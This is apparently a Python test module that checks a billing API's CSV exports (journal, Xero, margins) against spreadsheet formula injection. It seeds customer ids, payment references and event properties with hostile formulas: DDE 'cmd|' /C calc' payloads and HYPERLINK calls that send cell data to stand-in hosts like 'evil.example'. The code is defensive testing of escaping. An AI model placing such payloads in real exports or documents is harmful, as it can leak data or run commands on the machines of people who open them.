"""Formulas in the CSV exports (OWASP's CSV injection): customers whose ids and
names, payments whose references and events whose property values begin with =, +,
- or @ (a tab or a carriage return the API trims from them), or hold one after a ';'
or ',' (where a spreadsheet set for French or German, splitting at ';', starts a
cell), then the journal's CSV and Xero CSV and the admin's margins CSV (by customer
and by the property) read back: every text cell a spreadsheet would run, whole or
split at ';', ',', tabs or line breaks, is written with a ' before the formula, each
hostile id, reference and value is there as that text, and the amounts are the
invoices' as the API answered them, written as numbers."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from urllib.parse import urlencode

from hostile_world import Case, World, meter_made, plan_made

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Where a spreadsheet may start a cell inside one of ours: a split at ';' (French,
# German), ',' (quotes not honoured), tabs or line breaks.
SEPARATORS = re.compile(r"[;,\t\r\n]")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def hostile(marked: str) -> tuple[str, str]:
    """A hostile text and how the CSV writes it, from the text with a ^ where the
    written form has a ' (no payload here uses ^, Excel's power operator)."""
    return marked.replace("^", ""), marked.replace("^", "'")


# Customer ids take no spaces, '/', '?', '#', '%' or '\'.
CUSTOMERS = [
    (
        hostile('^=HYPERLINK("evil.example"&A1,"open")'),
        hostile("^@SUM(1+1)"),
        hostile('^=HYPERLINK("http://evil/?"&A1)'),
    ),
    (hostile("^+1+1"), hostile("^-2+3"), hostile("^+cmd|' /C calc'!A0")),
    (hostile("^-2+3"), hostile("^=1+1"), hostile("^-1+1")),
    (hostile("^@SUM(1+1)"), hostile("^+1+1"), hostile("^@SUM(A1:A9)")),
    (
        hostile('a;^=HYPERLINK("evil.example"&A1;"open")'),
        hostile('Acme;^=HYPERLINK("http://evil/?"&A1;"open")'),
        hostile("paid;^-2+3+cmd|' /C calc'!A0"),
    ),
    (hostile("b,^@SUM(1+1)"), hostile("Beta,^ +1+1"), hostile('paid;^"=1+1')),
]
MODELS = [
    hostile("^=cmd|' /C calc'!A0"),
    hostile("^+1+1"),
    hostile("^-1+1"),
    hostile("^@SUM(1+1)"),
    hostile('gpt;^=HYPERLINK("http://evil/?"&A1;"open")'),
    hostile("gpt,^-1+1"),
]
JOURNAL_FIGURES = {"debit", "credit"}
XERO_FIGURES = {"Amount"}
# margin_percent is empty without revenue.
MARGIN_FIGURES = {"revenue", "cost", "margin", "uncosted_quantity"}


def _setup(world: World) -> list[dict]:
    """Plans of 10.00 and 30.00 a month; each customer subscribed an hour ago to the
    first, moved at once to the second (an invoice finalized at the change), which
    is then paid with the hostile reference."""
    run = world.run
    meter = meter_made(world, "csv")
    for code, fee in ((f"{run}_low", "10.00"), (f"{run}_high", "30.00")):
        plan_made(world, code, meter, fee=fee)
    start = (datetime.now(UTC) - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    paid = []
    for index, ((external_id, written_id), (name, _), (reference, written)) in enumerate(CUSTOMERS):
        # The run's mark after the formula, so that runs never share a customer.
        external_id, written_id = f"{external_id}{run}{index}", f"{written_id}{run}{index}"
        world.made_with(
            "all",
            "POST",
            "/api/v1/customers",
            {"external_id": external_id, "name": name, "currency": "USD", "timezone": "UTC"},
        )
        subscription = world.made_with(
            "all",
            "POST",
            "/api/v1/subscriptions",
            {"customer": external_id, "plan": f"{run}_low", "start": start},
        )
        changed = world.made_with(
            "all",
            "POST",
            f"/api/v1/subscriptions/{subscription['id']}/change-plan",
            {"plan": f"{run}_high", "effective": "immediate"},
        )
        invoice = (changed or {}).get("invoice") or {}
        invoice = world.made_with("read", "GET", f"/api/v1/invoices/{invoice.get('id')}", None)
        if invoice.get("status") != "finalized" or Decimal(invoice["amount_due"]) <= 0:
            raise SystemExit(f"the plan change's invoice is not one to pay: {invoice}")
        # A run's own, as the database may hold others'.
        reference, written = f"{reference} {run}", f"{written} {run}"
        world.made_with(
            "all", "POST", f"/api/v1/invoices/{invoice['id']}/pay", {"reference": reference}
        )
        # An event whose property value is a formula: the customer and the value
        # have usage in the margins by customer and by model.
        event = {
            "id": f"{run}-{index}",
            "customer": external_id,
            "event_name": f"{run}.csv",
            "timestamp": (datetime.now(UTC) - timedelta(seconds=5)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "properties": {"model": MODELS[index][0]},
        }
        world.made_with("events:write", "POST", "/api/v1/events", {"events": [event]}, (202,))
        paid.append(
            {
                "customer": external_id,
                "written_customer": written_id,
                "reference": reference,
                "written_reference": written,
                "number": invoice["number"],
                "amount": invoice["amount_due"],
            }
        )
    return paid


def _rows(world: World, query: str) -> tuple[list[dict], list[str]]:
    status, data = world.call("finance:read", "GET", f"/api/v1/journal.csv?{query}")
    if status != 200:
        return [], [f"journal.csv: {status}"]
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))), []


def _formulas(rows: list[dict], figures: set[str]) -> list[str]:
    """Cells a spreadsheet would run: text, or a piece of it after a separator,
    beginning (past spaces and double quotes) with a formula's character; a figure
    column holds a plain number."""
    found = []
    for row in rows:
        for column, cell in row.items():
            if column in figures:
                if not NUMBER.fullmatch(cell or ""):
                    found.append(f"{column}={cell!r} is not a number")
            elif any(
                piece.lstrip(' "').startswith(FORMULA_STARTS)
                for piece in SEPARATORS.split(cell or "")
            ):
                found.append(f"{column}={cell[:30]!r}")
    return found


def _journal_case(world: World, paid: list[dict], query: str) -> Case:
    def check() -> list[str]:
        rows, problems = _rows(world, query)
        problems += _formulas(rows, JOURNAL_FIGURES)[:5]
        for payment in paid:
            memo = payment["written_reference"]
            mine = [r for r in rows if r["document_type"] == "payment" and r["memo"] == memo]
            customers = {r["customer"] for r in mine}
            if customers != {payment["written_customer"]}:
                problems.append(f"payment {memo[:20]!r}: customers {customers}")
            debits = sorted(r["debit"] for r in mine)
            if debits != ["0.00", payment["amount"]]:
                problems.append(f"payment {memo[:20]!r}: debits {debits}, paid {payment['amount']}")
        return problems

    return Case("csv: journal.csv neutralises ids and references, keeps amounts", check)


def _xero_case(world: World, paid: list[dict], query: str) -> Case:
    def check() -> list[str]:
        rows, problems = _rows(world, f"{query}&format=xero")
        problems += _formulas(rows, XERO_FIGURES)[:5]
        for payment in paid:
            mine = [r for r in rows if r["Narration"] == f"payment {payment['number']}"]
            amounts = sorted(Decimal(r["Amount"]) for r in mine)
            expected = sorted([Decimal(payment["amount"]), -Decimal(payment["amount"])])
            if amounts != expected:
                problems.append(f"payment {payment['number']}: amounts {amounts}")
        return problems

    return Case("csv: journal.csv?format=xero neutralises text, keeps signed amounts", check)


def _margins_case(world: World, group_by: str, expected: list[str]) -> Case:
    """The admin's margins CSV over today by `group_by`: the hostile keys there as
    `expected` writes them (neutralised), every figure a number."""
    day = datetime.now(UTC).date()
    query = urlencode(
        {
            "period_start": f"{day}T00:00",
            "period_end": f"{day + timedelta(days=1)}T00:00",
            "group_by": group_by,
            "currency": "USD",
            "format": "csv",
        }
    )

    def check() -> list[str]:
        status, data = world.staff_get(f"/admin/billing/marginreport/?{query}")
        if status != 200:
            return [f"margins CSV: {status}"]
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        problems = _formulas(rows, MARGIN_FIGURES)[:5]
        keys = {row[group_by] for row in rows}
        missing = [key[:20] for key in expected if key not in keys]
        if missing:
            problems.append(f"not in it (neutralised): {missing}")
        return problems

    return Case(f"csv: the admin's margins CSV by {group_by} neutralises its keys", check)


def cases(world: World) -> list[Case]:
    paid = _setup(world)
    day = datetime.now(UTC).date()
    query = f"from={day - timedelta(days=1)}&to={day + timedelta(days=1)}"
    found = [_journal_case(world, paid, query), _xero_case(world, paid, query)]
    if world.staff:
        found.append(_margins_case(world, "customer", [p["written_customer"] for p in paid]))
        found.append(_margins_case(world, "model", [written for _, written in MODELS]))
    return found
